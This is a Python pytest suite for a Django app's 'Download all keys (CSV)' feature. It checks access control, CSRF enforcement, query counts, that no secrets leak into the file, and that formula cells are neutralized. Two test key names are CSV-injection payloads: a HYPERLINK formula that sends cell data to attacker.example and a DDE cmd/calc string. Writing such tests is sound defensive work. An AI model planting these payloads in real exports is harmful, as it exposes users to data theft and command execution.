"""Key pages → Download all keys (CSV): a collection's keys as the API lists them, for any
member of the organization; never a digest or a key; formulas neutralized."""

from __future__ import annotations

import csv
import io
import re

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext

from apps.apikeys import keyformat
from apps.apikeys.keyformat import KeyKind
from apps.apikeys.models import ApiKey
from apps.apikeys.services import revoke_key
from core import export
from tests.conftest import access_token_for, bearer
from tests.factories import bulk_secret_keys, make_key
from tests.pages import html, key_page_url, logged_in
from tests.security.test_csrf_everywhere import CSRF_REFUSAL, PostForms

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://attacker.example/?leak="&A2,"Click")'
KINDS = [KeyKind.PUBLIC, KeyKind.SECRET, KeyKind.ORGANIZATION]


def export_url(kind: KeyKind, project) -> str:
    return key_page_url(kind, project) + "export.csv"


def rows_of(response) -> list[dict[str, str]]:
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


def api_list(api_client, kind: KeyKind, project, user) -> list[dict]:
    path = {
        KeyKind.PUBLIC: f"/v1/projects/{project.id}/sdk-keys",
        KeyKind.SECRET: f"/v1/projects/{project.id}/api-keys",
        KeyKind.ORGANIZATION: f"/v1/organizations/{project.organization_id}/api-keys",
    }[kind]
    return api_client.get(path, **bearer(access_token_for(user))).json()["results"]


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("role", ["owner", "admin", "member", "viewer"])
def test_any_member_downloads_the_collection_as_the_api_lists_it(
    request, kind, role, project, owner, api_client
):
    user = request.getfixturevalue(role)
    old, _ = make_key(kind, project=project, actor=owner, name="old key")
    make_key(kind, project=project, actor=owner, name="new key")
    revoke_key(actor=owner, api_key=old)

    response = logged_in(user).post(export_url(kind, project))

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8; header=present"
    assert response["Cache-Control"] == "no-store"
    assert response["X-Content-Type-Options"] == "nosniff"
    owner_id = project.organization_id if kind is KeyKind.ORGANIZATION else project.id
    assert re.fullmatch(
        rf'attachment; filename="sigsentry-[a-z-]+-keys-{owner_id}-\d{{8}}T\d{{6}}Z\.csv"',
        response["Content-Disposition"],
    )
    rows = rows_of(response)
    listed = api_list(api_client, kind, project, owner)
    assert [row["name"] for row in rows] == ["new key", "old key"]
    for row, key in zip(rows, listed, strict=True):
        assert row == {
            "id": key["id"],
            "name": key["name"],
            "prefix": key["prefix"],
            "type": key["type"],
            "scope": key["scope"],
            "legacy": "false",
            "permissions": " ".join(key["permissions"]),
            "status": key["status"],
            "createdAt": key["createdAt"],
            "createdBy": owner.email,
            "expiresAt": key["expiresAt"] or "",
            "lastUsedAt": key["lastUsedAt"] or "",
            "lastUsedIp": key["lastUsedIp"] or "",
            "revokedAt": key["revokedAt"] or "",
        }
    assert rows[1]["status"] == "revoked" and rows[1]["revokedAt"]


@pytest.mark.parametrize("kind", KINDS)
def test_the_file_holds_no_digest_and_no_key(kind, project, owner):
    api_key, plaintext = make_key(kind, project=project, actor=owner)

    response = logged_in(owner).post(export_url(kind, project))
    text = b"".join(response.streaming_content).decode()

    assert api_key.prefix in text
    assert plaintext not in text and plaintext[len(api_key.prefix) :] not in text
    assert ApiKey.objects.get(pk=api_key.pk).digest not in text


def test_only_the_collections_keys_are_listed(project, other_project, owner):
    make_key(KeyKind.SECRET, project=project, actor=owner, name="this project's")
    make_key(KeyKind.PUBLIC, project=project, actor=owner, name="an sdk key")
    make_key(KeyKind.SECRET, project=other_project, actor=owner, name="other project's")
    make_key(KeyKind.ORGANIZATION, organization=project.organization, actor=owner, name="org's")

    rows = rows_of(logged_in(owner).post(export_url(KeyKind.SECRET, project)))

    assert [row["name"] for row in rows] == ["this project's"]


@pytest.mark.parametrize("kind", KINDS)
def test_outsider_gets_404(kind, project, owner, outsider):
    make_key(kind, project=project, actor=owner, name="secretive")

    response = logged_in(outsider).post(export_url(kind, project))

    assert response.status_code == 404 and not response.streaming
    assert "secretive" not in html(response)


def test_a_key_named_like_a_formula_is_only_text(project, owner):
    make_key(KeyKind.SECRET, project=project, actor=owner, name=FORMULA)
    make_key(KeyKind.SECRET, project=project, actor=owner, name="@SUM(1+1)*cmd|' /C calc'!A0")

    rows = rows_of(logged_in(owner).post(export_url(KeyKind.SECRET, project)))

    assert [row["name"] for row in rows] == ["'@SUM(1+1)*cmd|' /C calc'!A0", "'" + FORMULA]


@pytest.mark.parametrize("kind", KINDS)
def test_the_key_pages_download_by_a_form_with_their_csrf_token(
    kind, project, owner, viewer, settings, throttle_clock
):
    """A download takes a place in the hour's downloads: a form's POST, never a link that
    another site's page could make the browser GET. Without the page's token (Django's
    real CSRF check) it is refused and counts nothing."""
    settings.THROTTLE_RATES = {**settings.THROTTLE_RATES, "download_user": (1, 3600)}
    make_key(kind, project=project, actor=owner, name="listed key")
    client = logged_in(viewer, Client(enforce_csrf_checks=True))
    page = html(client.get(key_page_url(kind, project)))
    [form] = [f for f in PostForms(page).forms if f.action == export_url(kind, project)]

    forged = client.post(export_url(kind, project))
    crossed = client.get(export_url(kind, project))

    assert ">Download all keys (CSV)</button>" in page and 'export.csv">' not in page
    assert forged.status_code == 403 and CSRF_REFUSAL in html(forged)
    assert (crossed.status_code, crossed["Location"]) == (302, key_page_url(kind, project))
    sent = client.post(export_url(kind, project), form.hidden)
    assert sent.status_code == 200 and [row["name"] for row in rows_of(sent)] == ["listed key"]


def queries_of(client, url: str) -> int:
    with CaptureQueriesContext(connection) as ctx:
        b"".join(client.post(url).streaming_content)
    return len(ctx.captured_queries)


def test_a_download_costs_one_query_per_chunk_whatever_the_keys(project, owner, monkeypatch):
    client = logged_in(owner)
    url = export_url(KeyKind.SECRET, project)
    bulk_secret_keys(project, 3)
    queries_of(client, url)  # warmed up
    few = queries_of(client, url)
    bulk_secret_keys(project, 60, each=lambda i: {"digest": keyformat.digest(f"more-{i}")})
    assert queries_of(client, url) == few

    monkeypatch.setattr(export, "CHUNK_ROWS", 10)
    assert queries_of(client, url) == few + 6  # 7 chunks of 63 keys instead of 1


@pytest.mark.parametrize("kind", KINDS)
def test_an_empty_key_list_offers_no_download_and_no_filter(kind, project, owner):
    """Nothing to download or to filter until a key exists; a revoked key is listed and in
    the file (for the record), so with only revoked keys both stay."""
    client = logged_in(owner)
    url = key_page_url(kind, project)
    download = ">Download all keys (CSV)</button>"
    filters = 'aria-label="Show keys"'

    empty, filtered_empty = html(client.get(url)), html(client.get(url + "?unused=30"))
    api_key, _ = make_key(kind, project=project, actor=owner)
    revoke_key(actor=owner, api_key=api_key)
    revoked_only = html(client.get(url))
    revoked_filtered = html(client.get(url + "?unused=30"))

    assert download not in empty and filters not in empty
    assert download not in filtered_empty and filters not in filtered_empty
    assert download in revoked_only and filters in revoked_only
    assert download in revoked_filtered and filters in revoked_filtered  # a way back: All keys
    # the empty state says there is none; no "0 keys, newest first" above it
    assert "0 keys, newest first" not in empty and "1 key, newest first" in revoked_only
